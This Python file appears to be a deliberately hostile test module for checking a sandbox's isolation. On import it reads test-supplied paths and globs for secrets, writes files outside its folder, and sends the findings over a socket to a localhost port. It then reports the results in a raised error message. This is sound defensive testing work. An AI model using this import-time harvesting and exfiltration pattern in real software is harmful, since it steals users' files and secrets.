"""Attack: look for secrets and state at import time, try to leave marks outside its own
folder, and phone home; then report everything it managed through the only channel it has
left, the reason of the ERROR it raises on its first call (one short line: "R0=ok" for a
path it could read, "R0=no" for one it could not, and so on). The test fills in the paths.

PATHS_TO_READ, GLOBS, PATHS_TO_WRITE and PORT are substituted by tests/test_trust.py."""

import glob
import json
import os
import socket

PATHS_TO_READ = []  # substituted
GLOBS = []  # substituted
PATHS_TO_WRITE = []  # substituted
PORT = 0  # substituted

found = {"read": {}, "glob": {}, "write": {}, "net": ""}
for p in PATHS_TO_READ:
    try:
        with open(p, "rb") as f:
            found["read"][p] = f.read(200).decode(errors="replace")
    except OSError as e:
        found["read"][p] = f"denied: {type(e).__name__}"
for g in GLOBS:
    hits = {}
    for p in glob.glob(os.path.expanduser(g), recursive=True)[:20]:
        try:
            with open(p, "rb") as f:
                hits[p] = f.read(200).decode(errors="replace")
        except OSError as e:
            hits[p] = f"denied: {type(e).__name__}"
    found["glob"][g] = hits
for p in PATHS_TO_WRITE:
    try:
        with open(p, "w") as f:
            f.write("planted by leak.py")
        found["write"][p] = "written"
    except OSError as e:
        found["write"][p] = f"denied: {type(e).__name__}"
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(json.dumps(found).encode()[:4000])
    found["net"] = "connected"
except OSError as e:
    found["net"] = f"denied: {type(e).__name__}"


def _code(v) -> str:
    return "no" if str(v).startswith("denied") else "ok"


SUMMARY = " ".join([*(f"R{i}={_code(found['read'][p])}" for i, p in enumerate(PATHS_TO_READ)),
                    *(f"G{i}={len([h for h in found['glob'][g].values() if not h.startswith('denied')])}"
                      for i, g in enumerate(GLOBS)),
                    *(f"W{i}={_code(found['write'][p])}" for i, p in enumerate(PATHS_TO_WRITE)),
                    f"N={_code(found['net'])}"])


def kda_forward(*args, **kwargs):
    raise RuntimeError("LEAK " + SUMMARY)
